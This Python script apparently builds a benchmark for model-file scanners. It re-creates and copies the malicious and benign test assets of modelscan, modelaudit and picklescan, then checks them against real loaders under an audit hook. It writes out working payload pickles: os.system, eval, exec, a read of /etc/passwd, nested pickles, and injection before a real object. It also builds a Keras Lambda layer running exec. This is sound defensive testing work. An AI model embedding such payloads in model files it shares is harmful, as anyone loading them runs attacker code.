"""Re-create the peers' public test assets and label them by what the peers' own tests say.

Three sources, each under its own folder here:

* ``modelscan/``: modelscan (protectai/modelscan) builds its test files in
  ``tests/test_modelscan.py`` fixtures (``file_path``, ``zip_file_path``, ``pytorch_file_path``,
  ``numpy_file_path``, ``keras_file_path``) and ``tests/test_utils.py``
  (``generate_unsafe_pickle_file``). They are re-made here the way those fixtures make them:
  the same callables, protocols and opcode sequences, written by this script.
* ``modelaudit/`` and ``picklescan/``: modelaudit (promptfoo/modelaudit, ``tests/assets``) and
  picklescan (mmaitre314/picklescan, ``tests/data``, ``tests/data2``) commit their test files;
  they are copied unchanged from a checkout of each repository (``--modelaudit-git``,
  ``--picklescan-git``: a git directory; the commit is recorded). Files over 200 kB are left out.

Then every asset is given to the real loader of its kind in a child process (``run_loader.py``)
under an audit hook that refuses, before it happens, every effect a payload has: starting a
process, evaluating a code string, opening a network connection, writing or deleting a file,
exiting. ``executes`` is true when the loader reached one of them (nothing is run: the hook
raises first). ``labels.json`` gets, per file: its label from the source's tests, the test that
says so, the loader used and what it reached.

    /work/venvs/torch/bin/python bench/peer_assets/make_peer_assets.py \\
        --modelaudit-git /work/.mirror/promptfoo+modelaudit/repo \\
        --picklescan-git /work/.mirror/mmaitre314+picklescan/repo \\
        --keras-python /work/venvs/keras/bin/python --pickle-python /work/venvs/peers/bin/python

Run with a Python that has torch and numpy (the torch assets and the loaders need them).
"""

from __future__ import annotations

import argparse
import http.client
import io
import json
import os
import pickle
import socket
import struct
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
MAX_COPY = 200_000
MS = "protectai/modelscan"
MS_TEST = "tests/test_modelscan.py"


# -- modelscan's payload classes, re-made: each pickles as a call of one callable ---------------

class _Call:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def _global_call(module: str, name: str, arg: str, proto: int = 4) -> bytes:
    """``module.name(arg)`` as a pickle, for callables whose module is not installed here
    (``pickle.dumps`` of the real object writes exactly these opcodes)."""
    def su(s: str) -> bytes:
        b = s.encode()
        return pickle.SHORT_BINUNICODE + bytes([len(b)]) + b
    body = su(module) + pickle.MEMOIZE + su(name) + pickle.MEMOIZE + pickle.STACK_GLOBAL
    body += pickle.MEMOIZE + su(arg) + pickle.MEMOIZE + pickle.TUPLE1 + pickle.MEMOIZE
    body += pickle.REDUCE + pickle.MEMOIZE + pickle.STOP
    return pickle.PROTO + bytes([proto]) + pickle.FRAME + struct.pack("<Q", len(body)) + body


def _injected(obj: Any, payload: Any, proto: int = 4) -> bytes:
    """``generate_unsafe_pickle_file``: one pickle whose stack gets the payload's call first,
    then the user's object, then STOP (the payload runs; the object is what load returns)."""
    buf = io.BytesIO()
    p = pickle._Pickler(buf, proto)  # the pure-Python pickler exposes save() and the framer
    p.write(pickle.PROTO + struct.pack("<B", proto))
    p.framer.start_framing()
    p.save(payload)
    p.save(obj)
    p.write(pickle.STOP)
    p.framer.end_framing()
    return buf.getvalue()


def _malicious12() -> bytes:
    """``malicious12_gen``: a pickle that calls ``pickle.loads`` on a nested pickle."""
    inner = (pickle.PROTO + b"\x05" + pickle.GLOBAL + b"os\nsystem\n" + pickle.UNICODE
             + b"echo pwned!!!\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP)
    return (pickle.PROTO + b"\x05" + pickle.GLOBAL + b"pickle\nloads\n" + pickle.BINBYTES
            + len(inner).to_bytes(4, "little") + inner + pickle.TUPLE1 + pickle.REDUCE
            + pickle.POP + pickle.NONE + pickle.STOP)


def _malicious13() -> bytes:
    """``malicious13_gen``: GLOBAL with a dotted name, ``builtins`` / ``eval.__call__``."""
    return (pickle.PROTO + b"\x05" + pickle.GLOBAL + b"builtins\neval.__call__\n" + pickle.UNICODE
            + b'__import__("os").system("echo pwned!!!")\n' + pickle.TUPLE1 + pickle.REDUCE
            + pickle.STOP)


def _malicious11(trailer: bytes = b"") -> bytes:
    """The imaginaryctf pickle (``malicious11``; ``malicious14`` adds trailing whitespace):
    module and name pushed as strings, memoised, popped, fetched back for STACK_GLOBAL."""
    parts = []
    for idx, s in ((2, b"os"), (3, b"system"), (0, b"torch"), (1, b"LongStorage")):
        parts += [pickle.UNICODE + s + b"\n", pickle.PUT + str(idx).encode() + b"\n", pickle.POP]
    parts += [pickle.GET + b"2\n", pickle.GET + b"3\n", pickle.STACK_GLOBAL, pickle.MARK,
              pickle.UNICODE + b"cat flag.txt\n", pickle.TUPLE, pickle.REDUCE, pickle.STOP]
    return b"".join(parts) + trailer


SOUR_PICKLE = (  # fixture file_path, "malicious0.pkl" (Sour Pickles, BlackHat 2011)
    b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");"
    b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
    b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
    b"(g100\nS'picklesmashed'\nltRp104\n0g104\n.")


def make_modelscan(out: Path) -> list[dict[str, Any]]:
    """The files of modelscan's fixtures, and their labels from the tests that scan them."""
    import bdb

    import numpy as np
    import torch

    out.mkdir(parents=True, exist_ok=True)
    rows: list[dict[str, Any]] = []

    def put(name: str, data: bytes, label: str, test: str, why: str) -> None:
        (out / name).write_bytes(data)
        rows.append({"path": f"modelscan/{name}", "label": label, "source": MS,
                     "test": f"{MS_TEST}::{test}", "why": why})

    eval_ = _Call(eval, "print('456')")
    system = _Call(os.system, "ls -la")
    for v in (0, 3, 4):
        put(f"benign0_v{v}.pkl", pickle.dumps(["a", "b", "c"], protocol=v), "benign",
            "test_scan_file_path", "no issues expected")
        put(f"malicious1_v{v}.pkl", pickle.dumps(eval_, protocol=v), "malicious",
            "test_scan_pickle_operators", "builtins.eval, CRITICAL")
        put(f"malicious2_v{v}.pkl", pickle.dumps(system, protocol=v), "malicious",
            "test_scan_pickle_operators", "os.system (posix.system), CRITICAL")
    put("malicious0.pkl", SOUR_PICKLE, "malicious", "test_scan_file_path",
        "globals, compile, eval, getattr, apply: CRITICAL")
    put("malicious3.pkl", pickle.dumps(_Call(http.client.HTTPSConnection, "github.com"), 0),
        "malicious", "test_scan_pickle_operators", "http.client.HTTPSConnection, CRITICAL")
    put("malicious4.pickle", _global_call("requests.api", "get", "https://github.com"),
        "malicious", "test_scan_pickle_operators", "requests.api.get, CRITICAL")
    ms5 = pickle.PROTO + b"\x04" + pickle.GLOBAL + b"aiohttp.client\nClientSession\n"
    put("malicious5.pickle", ms5 + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP, "malicious",
        "test_scan_pickle_operators", "aiohttp.client.ClientSession, CRITICAL")
    put("malicious6.pkl", pickle.dumps(["a", "b", "c"])
        + _global_call("requests.api", "get", "https://github.com"), "malicious",
        "test_scan_pickle_operators", "second pickle in the file calls requests.api.get")
    put("malicious7.pkl", pickle.dumps(_Call(socket.create_connection, ("github.com", 80)), 4),
        "malicious", "test_scan_pickle_operators", "socket.create_connection, CRITICAL")
    put("malicious8.pkl", pickle.dumps(_Call(subprocess.run, ["ls", "-l"]), 4), "malicious",
        "test_scan_pickle_operators", "subprocess.run, CRITICAL")
    put("malicious9.pkl", pickle.dumps(_Call(sys.exit, 0), 4), "malicious",
        "test_scan_pickle_operators", "sys.exit, CRITICAL")
    put("malicious10.pkl", b"(S'print(\"Injection running\")'\ni__builtin__\nexec\n.", "malicious",
        "test_scan_pickle_operators", "INST __builtin__.exec, CRITICAL")
    put("malicious11.pkl", _malicious11(), "malicious", "test_scan_pickle_operators",
        "os.system through memoised STACK_GLOBAL, CRITICAL")
    put("malicious12.pkl", _malicious12(), "malicious", "test_scan_pickle_operators",
        "pickle.loads of an embedded pickle, CRITICAL")
    put("malicious13.pkl", _malicious13(), "malicious", "test_scan_pickle_operators",
        "builtins eval.__call__, CRITICAL")
    put("malicious14.pkl", _malicious11(b"\n\n\t\t"), "malicious", "test_scan_pickle_operators",
        "as malicious11 with trailing bytes, CRITICAL")
    put("malicious15.pkl", pickle.dumps(_Call(bdb.Bdb.run, bdb.Bdb(),
                                              'import os\nos.system("whoami")'), 4),
        "malicious", "test_scan_pickle_operators", "bdb.Bdb.run of a code string, CRITICAL")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("data.pkl", pickle.dumps(eval_, protocol=4))
    put("malicious1.zip", zbuf.getvalue(), "malicious", "test_scan_pickle_operators",
        "zip member data.pkl calls builtins.eval")
    put("test.zip", zbuf.getvalue(), "malicious", "test_scan_zip",
        "zip member data.pkl calls builtins.eval (fixture zip_file_path)")
    # fixture pytorch_file_path / test_scan_pytorch
    put("bad_pytorch.pt", b"\211PNG\r\n\032\n", "benign", "test_scan_pytorch",
        "a PNG named .pt: no issues, reported as not a pickle")
    state = torch.nn.Module().state_dict()
    for name, zipped in (("safe_zip_pytorch.pt", True), ("safe_old_format_pytorch.pt", False)):
        torch.save(state, out / name, _use_new_zipfile_serialization=zipped)
        rows.append({"path": f"modelscan/{name}", "label": "benign", "source": MS,
                     "test": f"{MS_TEST}::test_scan_pytorch", "why": "no issues expected"})
    # fixture numpy_file_path / test_scan_numpy
    np.save(out / "safe_numpy.npy", [[1, 2, 3], [4, 5, 6]])
    rows.append({"path": "modelscan/safe_numpy.npy", "label": "benign", "source": MS,
                 "test": f"{MS_TEST}::test_scan_numpy", "why": "no issues expected"})
    arr = np.load(out / "safe_numpy.npy", allow_pickle=True)
    put("unsafe_numpy.npy", _injected(arr, _Call(exec, 'print("Malicious code!")')), "malicious",
        "test_scan_numpy", "pickle stream with builtins.exec injected before the array "
        "(tests/test_utils.py::generate_unsafe_pickle_file)")
    return rows


KERAS_SRC = r'''
import os, sys, numpy as np, keras
out = sys.argv[1]
inp = keras.Input(shape=(32,))
model = keras.Model(inp, keras.layers.Dense(1)(inp))
model.compile(optimizer="adam", loss="mean_squared_error")
model.fit(np.random.random((128, 32)), np.random.random((128, 1)), verbose=0)
for ext in ("h5", "keras"):
    model.save(f"{out}/safe.{ext}")
attack = lambda x: exec("""import http.client
conn = http.client.HTTPSConnection("protectai.com")""") or x
extra = keras.layers.Dense(1)(model.layers[-1].output)
out2 = keras.layers.Lambda(attack)(keras.layers.Lambda(attack)(extra))
bad = keras.Model(inputs=model.inputs, outputs=[out2])
bad.compile(optimizer="adam", loss="mean_squared_error")
for ext in ("h5", "keras"):
    bad.save(f"{out}/unsafe.{ext}")
'''


def make_modelscan_keras(out: Path, python: str) -> list[dict[str, Any]]:
    """Fixture ``keras_file_path``: a trained Dense model, and the same model with two Lambda
    layers whose function runs ``exec``; saved as ``.h5`` and ``.keras`` by the Keras given."""
    env = {**os.environ, "KERAS_BACKEND": os.environ.get("KERAS_BACKEND", "torch")}
    subprocess.run([python, "-c", KERAS_SRC, str(out)], check=True, env=env)
    rows = []
    for stem, label, why in (("safe", "benign", "no issues expected"),
                             ("unsafe", "malicious", "Lambda layers calling exec, MEDIUM")):
        for ext in ("h5", "keras"):
            rows.append({"path": f"modelscan/{stem}.{ext}", "label": label, "source": MS,
                         "test": f"{MS_TEST}::test_scan_keras", "why": why})
    return rows


# -- committed assets: copied from a checkout, labelled by the tests that use them --------------

MA = "promptfoo/modelaudit"
MA_ASSETS: list[tuple[str, str, str, str]] = [
    # (path under tests/assets, label, test or generator that says so, why)
    *((f"exploits/{n}.pkl", "malicious", "tests/assets/exploits (named exploit PoCs)",
       "exploit pickle") for n in (
        "exploit1_basic_torch_bypass", "exploit2_advanced_torch_bypass",
        "exploit3_sophisticated_hybrid", "exploit4_supply_chain_attack",
        "exploit5_ultra_high_confidence", "exploit6_ordereddict_bypass",
        "exploit7_nested_collections", "exploit9_manual_construction", "exploit_ultimate_50pct")),
    *((f"pickles/{n}.pkl", "malicious", "tests/assets/generators/generate_advanced_pickle_tests.py"
       if n in ("memo_attack", "multiple_stream_attack", "stack_global_attack")
       else "tests/assets/generators/generate_os_alias_tests.py", "attack pickle")
      for n in ("memo_attack", "multiple_stream_attack", "nt_alias_attack", "posix_alias_attack",
                "stack_global_attack")),
    *((f"samples/pickles/{n}", "malicious", "tests/scanners/test_pickle_scanner.py",
       "malicious sample") for n in (
        "decode_exec_chain.pkl", "dill_func.pkl", "evil.pickle", "malicious_model_realistic.pkl",
        "malicious_system_call.pkl", "nested_pickle_base64.pkl", "nested_pickle_hex.pkl",
        "nested_pickle_multistage.pkl", "nested_pickle_raw.pkl")),
    *((f"samples/pickles/{n}", "benign", "tests/assets/generators/generate_safe_nested_assets.py",
       "safe sample") for n in (
        "safe_data.pkl", "safe_model_with_binary.pkl", "safe_model_with_encoding.pkl",
        "safe_model_with_tokens.pkl", "safe_nested_structure.pkl", "simple_nested.pkl")),
    ("samples/pytorch/malicious_eval.pt", "malicious",
     "tests/assets/generators/generate_security_assets.py", "eval in a torch zip"),
    ("samples/pytorch/safe_model.pt", "benign",
     "tests/assets/generators/generate_security_assets.py", "safe torch zip"),
    ("samples/keras/malicious_lambda.h5", "malicious",
     "tests/assets/generators/generate_security_assets.py", "Lambda layer"),
    ("samples/keras/safe_model.h5", "benign",
     "tests/assets/generators/generate_security_assets.py", "safe Keras H5"),
    ("samples/tensorflow/malicious_pyfunc/saved_model.pb", "malicious",
     "tests/assets/generators/generate_security_assets.py", "PyFunc op"),
    ("samples/tensorflow/safe_savedmodel/saved_model.pb", "benign",
     "tests/assets/generators/generate_security_assets.py", "safe SavedModel"),
    ("samples/archives/path_traversal.zip", "malicious",
     "tests/assets/generators/generate_security_assets.py", "member path escapes with ../"),
    ("samples/archives/safe_model.zip", "benign",
     "tests/assets/generators/generate_security_assets.py", "safe zip"),
    ("samples/pipeline.skops", "benign", "tests/scanners/test_skops_scanner.py",
     "a scikit-learn pipeline saved by skops"),
    ("scenarios/security_scenarios/mixed_malicious_model/model.pkl", "malicious",
     "tests/assets/generators/generate_security_assets.py", "security scenario"),
    ("scenarios/license_scenarios/mit_model/model_weights.pkl", "benign",
     "tests/assets/generators/generate_security_assets.py", "license scenario, weights"),
    ("scenarios/license_scenarios/mixed_licenses/mixed_model.pkl", "benign",
     "tests/assets/generators/generate_security_assets.py", "license scenario, model"),
]

PS = "mmaitre314/picklescan"
PS_BENIGN = {"benign0_v0.pkl", "benign0_v3.pkl", "benign0_v4.pkl", "benign_password_protected.zip",
             "pytorch_model.bin", "new_pytorch_model.bin", "bad_pytorch.pt", "not_a_pickle.bin",
             "broken_model.pkl", "int_array.npy", "object_array.npy", "int_arrays.npz",
             "object_arrays.npz", "int_arrays_compressed.npz", "object_arrays_compressed.npz"}


def _git(gitdir: str, *args: str) -> bytes:
    return subprocess.run(["git", "--git-dir", gitdir, *args], check=True,
                          capture_output=True).stdout


def copy_modelaudit(gitdir: str, out: Path) -> list[dict[str, Any]]:
    commit = _git(gitdir, "rev-parse", "HEAD").decode().strip()
    rows = []
    for rel, label, test, why in MA_ASSETS:
        data = _git(gitdir, "show", f"HEAD:tests/assets/{rel}")
        if len(data) > MAX_COPY:
            continue
        dest = out / rel
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data)
        rows.append({"path": f"modelaudit/{rel}", "label": label, "source": f"{MA}@{commit[:12]}",
                     "test": test, "why": why})
    return rows


def copy_picklescan(gitdir: str, out: Path) -> list[dict[str, Any]]:
    """Every committed file of ``tests/data`` and ``tests/data2``; ``tests/test_scanner.py``
    expects an infected file in each but the benign ones named in ``PS_BENIGN`` (``test_scan_numpy``
    and ``test_scan_file_path_npz`` expect the NumPy arrays clean)."""
    commit = _git(gitdir, "rev-parse", "HEAD").decode().strip()
    rows = []
    for line in _git(gitdir, "ls-tree", "-r", "-l", "HEAD", "tests/data", "tests/data2"
                     ).decode().splitlines():
        meta, rel = line.split("\t")
        size = meta.split()[3]
        if not size.isdigit() or int(size) > MAX_COPY:
            continue
        data = _git(gitdir, "show", f"HEAD:{rel}")
        dest = out / rel.removeprefix("tests/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data)
        rows.append(_ps_label({"path": f"picklescan/{rel.removeprefix('tests/')}",
                               "source": f"{PS}@{commit[:12]}", "test": "tests/test_scanner.py"}))
    return rows


def _ps_label(row: dict[str, Any]) -> dict[str, Any]:
    benign = Path(row["path"]).name in PS_BENIGN
    row.update(label="benign" if benign else "malicious",
               why="expected clean" if benign else "expected infected")
    return row


# -- the real loaders ------------------------------------------------------------------------

def loader_for(path: Path) -> str | None:
    name = path.name.lower()
    if name.endswith((".h5", ".keras")):
        return "keras"
    if name.endswith((".pt", ".pth", ".bin", ".ckpt", ".zip")):
        return "torch"
    if name.endswith((".npy", ".npz")):
        return "numpy"
    if name.endswith(".joblib"):
        return "joblib"
    if name.endswith((".pkl", ".pickle", ".dill", ".pck", ".p")):
        return "pickle"
    return None


def verify(rows: list[dict[str, Any]], pythons: dict[str, list[str]]) -> None:
    """Run each file's loader in every environment given for its kind; ``executes`` when any
    of them reached a payload effect (a payload may need a module only one of them has)."""
    runner = HERE / "run_loader.py"
    for row in rows:
        path = HERE / row["path"]
        loader = loader_for(path)
        envs = [p for p in pythons.get(loader or "", []) if p]
        if loader is None or not envs:
            row.update(loader=None, executes=None, reached=[],
                       outcome="no loader of this kind run here")
            continue
        reached: list[str] = []
        outcomes = []
        for python in envs:
            proc = subprocess.run([python, str(runner), loader, str(path)], capture_output=True,
                                  text=True, timeout=300)
            try:
                res = json.loads(proc.stdout.strip().splitlines()[-1])
            except (IndexError, json.JSONDecodeError):
                res = {"reached": [], "outcome": f"runner failed: {proc.stderr.strip()[-200:]}"}
            reached += res["reached"]
            outcomes.append(f"{Path(python).parents[1].name}: {res['outcome']}")
        row.update(loader=loader, executes=bool(reached), reached=reached,
                   outcome="; ".join(outcomes))


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--modelaudit-git")
    ap.add_argument("--picklescan-git")
    ap.add_argument("--keras-python", help="a Python with keras 3, for the Keras assets")
    ap.add_argument("--pickle-python", help="a second Python for plain pickles (one with requests "
                    "and aiohttp, so that network payloads resolve as they would for a user)")
    ap.add_argument("--verify-only", action="store_true",
                    help="keep the files, run the loaders again over labels.json")
    args = ap.parse_args()
    labels = HERE / "labels.json"
    pythons = {"pickle": [sys.executable, args.pickle_python], "torch": [sys.executable],
               "numpy": [sys.executable], "joblib": [sys.executable],
               "keras": [args.keras_python]}
    if args.verify_only:
        rows = [_ps_label(r) if r["source"].startswith(PS) else r
                for r in json.loads(labels.read_text())["files"]]
    else:
        rows = make_modelscan(HERE / "modelscan")
        if args.keras_python:
            rows += make_modelscan_keras(HERE / "modelscan", args.keras_python)
        if args.modelaudit_git:
            rows += copy_modelaudit(args.modelaudit_git, HERE / "modelaudit")
        if args.picklescan_git:
            rows += copy_picklescan(args.picklescan_git, HERE / "picklescan")
    verify(rows, pythons)
    import numpy
    import torch
    labels.write_text(json.dumps({
        "executes_means": "the real loader reached a payload effect (process, code string "
                          "evaluation, network, file write or delete, exit); see run_loader.py",
        "producers": {"python": sys.version.split()[0], "torch": torch.__version__,
                      "numpy": numpy.__version__},
        "files": rows}, indent=1) + "\n")


if __name__ == "__main__":
    main()
